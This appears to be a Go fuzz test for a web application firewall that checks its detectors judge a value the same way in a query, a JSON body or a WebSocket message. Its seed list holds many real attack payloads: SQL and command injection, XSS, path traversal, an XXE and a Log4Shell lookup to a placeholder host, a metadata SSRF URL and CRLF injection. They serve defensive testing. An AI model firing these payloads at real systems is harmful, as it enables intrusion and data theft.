package detect

// Properties of the detectors over every family at once, on whole requests: they are
// built the way `rampart replay` builds them for a value (internal/replay: GET /?q=...,
// POST / with {"q": "..."}, a WebSocket message {"q": "..."}) and judged the way
// engine.Inspect judges a request: parse.Fill, Inspect, Request.RedactSecrets. (The
// engine itself is not imported: it would link the rules and the Redis client into
// this package's test binary and make every fuzzer of the package slower to build and
// run. What it adds, anomalies from the parser's flags and the decision, concerns no
// value's signals.)

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/rampartwaf/rampart/internal/parse"
	"github.com/rampartwaf/rampart/internal/request"
)

const placementUA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

// placementLimits are the config's default limits.
var placementLimits = parse.Limits{Params: 2048, Depth: 64}

// judgeRequest judges r as engine.Inspect does and returns its signals.
func judgeRequest(r *request.Request) []request.Signal {
	parse.Fill(r, placementLimits)
	Inspect(r)
	r.RedactSecrets()
	return r.Signals
}

// placementRequest builds a request with the browser headers replay gives a value's
// request; target is the request target, ct the Content-Type ("" for none).
func placementRequest(method, target, ct string) *request.Request {
	path, query, _ := strings.Cut(target, "?")
	r := &request.Request{Protocol: request.ProtocolHTTP, Method: method, Scheme: "http", Host: "localhost",
		URI: target, Path: path, RawQuery: query, Proto: "HTTP/1.1", UserAgent: placementUA,
		Headers: []request.Header{{Name: "User-Agent", Value: placementUA}, {Name: "Accept", Value: "*/*"}}}
	if ct != "" {
		r.ContentType = ct
		r.Headers = append(r.Headers, request.Header{Name: "Content-Type", Value: ct})
	}
	return r
}

// jsonString returns v escaped for the inside of a JSON string as replay writes it: '"',
// '\' and control bytes escaped, everything else (invalid UTF-8 included) as is.
func jsonString(v string) string {
	const hex = "0123456789abcdef"
	var b strings.Builder
	for i := 0; i < len(v); i++ {
		switch c := v[i]; {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte(hex[c>>4])
			b.WriteByte(hex[c&15])
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// judgeQuery judges GET /?<pairs>, the pairs given as name, value, name, value...
func judgeQuery(pairs ...string) []request.Signal {
	var q []string
	for i := 0; i < len(pairs); i += 2 {
		q = append(q, url.QueryEscape(pairs[i])+"="+url.QueryEscape(pairs[i+1]))
	}
	r := placementRequest("GET", "/?"+strings.Join(q, "&"), "")
	return judgeRequest(r)
}

// jsonObject returns the JSON object of the string fields given as name, value...
func jsonObject(pairs ...string) []byte {
	var b strings.Builder
	b.WriteByte('{')
	for i := 0; i < len(pairs); i += 2 {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(`"` + jsonString(pairs[i]) + `": "` + jsonString(pairs[i+1]) + `"`)
	}
	b.WriteByte('}')
	return []byte(b.String())
}

// judgeJSON judges POST / with a JSON body of the given string fields.
func judgeJSON(pairs ...string) []request.Signal {
	r := placementRequest("POST", "/", "application/json")
	r.Body = jsonObject(pairs...)
	return judgeRequest(r)
}

// judgeMessage judges the first text message of a WebSocket connection to /, a JSON
// object of the given string fields.
func judgeMessage(pairs ...string) []request.Signal {
	r := placementRequest("GET", "/", "")
	r.Protocol, r.Opcode, r.MessageIndex = request.ProtocolWebSocket, 1, 1
	r.Message = jsonObject(pairs...)
	return judgeRequest(r)
}

// attacksOn returns the sorted names of the attack signals on the parameter name.
func attacksOn(signals []request.Signal, name string) []string {
	return signalsOn(signals, name, IsAttack)
}

// anomaliesOn returns the sorted names of the anomaly signals on the parameter name,
// but DOUBLEENCODING: the parser URL-decodes a query value once (as the application
// does), so one more round of percent escapes is double encoding in the query and a
// single one in JSON (detect.go: doubleRounds).
func anomaliesOn(signals []request.Signal, name string) []string {
	return signalsOn(signals, name, func(s string) bool { return !IsAttack(s) && s != DOUBLEENCODING })
}

func signalsOn(signals []request.Signal, name string, keep func(string) bool) []string {
	var out []string
	for _, s := range signals {
		if s.Param == name && keep(s.Name) {
			out = append(out, s.Name)
		}
	}
	slices.Sort(out)
	return out
}

// requestAttacks returns the sorted names of the request-wide attack signals (those on
// no parameter).
func requestAttacks(signals []request.Signal) []string {
	return attacksOn(signals, "")
}

// without returns the names of set other than name.
func without(set []string, name string) []string {
	return slices.DeleteFunc(slices.Clone(set), func(s string) bool { return s == name })
}

// FuzzPlacement checks that the detectors judge a value, not the way it arrives. The
// value v is judged alone as the query parameter q, and as the string field q of a JSON
// body or of a WebSocket message (in turn, by the length of v) that also carries benign
// fields and v once more under the secret-looking name password:
//
//   - the attack signals on q are the same in both. The one exception is CRLF,
//     documented in crlf.go: a query value belongs on one line, so a line break
//     followed by a header an open redirect wants (Location:, Refresh:) is an attack
//     there and a textarea's content in a JSON field; so CRLF in JSON implies CRLF in
//     the query, not the reverse;
//   - so are the anomalies on q (NULLBYTE, NOTUTF8), but DOUBLEENCODING, whose
//     threshold depends on the source by design; a raw NUL byte always raises NULLBYTE;
//   - hence the signals on q depend neither on the other fields nor on the placement;
//   - no placement raises a request-wide attack signal: the path is "/", the headers a
//     browser's, and the checks of the path and headers never read a query value;
//   - v under the name password gets the same attack signals as under q (no detector
//     reads that name), and no fragment of it survives the engine's redaction.
func FuzzPlacement(f *testing.F) {
	for _, s := range []string{
		"' or 1=1--", "<script>alert(1)</script>", ";cat /etc/passwd", "../../../../etc/passwd",
		"${jndi:ldap://a.example/x}", "http://169.254.169.254/latest/meta-data/", `{"$gt": ""}`,
		"*)(uid=*))(|(uid=*", "__proto__[x]=1", "{{7*7}}", "<?php system('id'); ?>",
		"x\r\nSet-Cookie: a=b", "x\nLocation: http://a.example/", `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`,
		"/\\evil.example", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "blue shoes size 42", "O'Brien & sons",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if v == "" || len(v) > 512 {
			return // long values cost time and find nothing short ones do not
		}
		// Three requests would make this fuzzer the slowest of CI's: the JSON body and
		// the message, judged alike by the parser and the detectors, take turns.
		placement, judge := "json", judgeJSON
		if len(v)%2 == 1 {
			placement, judge = "message", judgeMessage
		}
		query, js := judgeQuery("q", v), judge("id", "7", "q", v, "password", v, "lang", "en")
		if got := requestAttacks(query); len(got) > 0 {
			t.Fatalf("value %q in the query raised request-wide attacks %v: %+v", v, got, query)
		}
		if got := requestAttacks(js); len(got) > 0 {
			t.Fatalf("value %q in a %s raised request-wide attacks %v: %+v", v, placement, got, js)
		}

		q, j := attacksOn(query, "q"), attacksOn(js, "q")
		if !slices.Equal(without(q, CRLF), without(j, CRLF)) {
			t.Fatalf("value %q: query %v, %s field %v", v, q, placement, j)
		}
		if slices.Contains(j, CRLF) && !slices.Contains(q, CRLF) {
			t.Fatalf("value %q: CRLF in a %s field but not in the query", v, placement)
		}
		qa, ja := anomaliesOn(query, "q"), anomaliesOn(js, "q")
		if !slices.Equal(qa, ja) {
			t.Fatalf("value %q: anomalies %v in the query, %v in a %s field", v, qa, ja, placement)
		}
		if strings.IndexByte(v, 0) >= 0 && !slices.Contains(ja, NULLBYTE) {
			t.Fatalf("value %q holds a NUL byte: no NULLBYTE (anomalies %v)", v, ja)
		}

		if got := attacksOn(js, "password"); !slices.Equal(got, j) {
			t.Fatalf("value %q: as q %v, as password %v", v, j, got)
		}
		for _, s := range js {
			// Only q may keep its fragments: the other fields are benign or secret.
			if s.Param != "q" && s.Fragment != "" && s.Fragment != request.Redacted {
				t.Fatalf("value %q: %s fragment %q on %q kept", v, s.Name, s.Fragment, s.Param)
			}
		}
	})
}
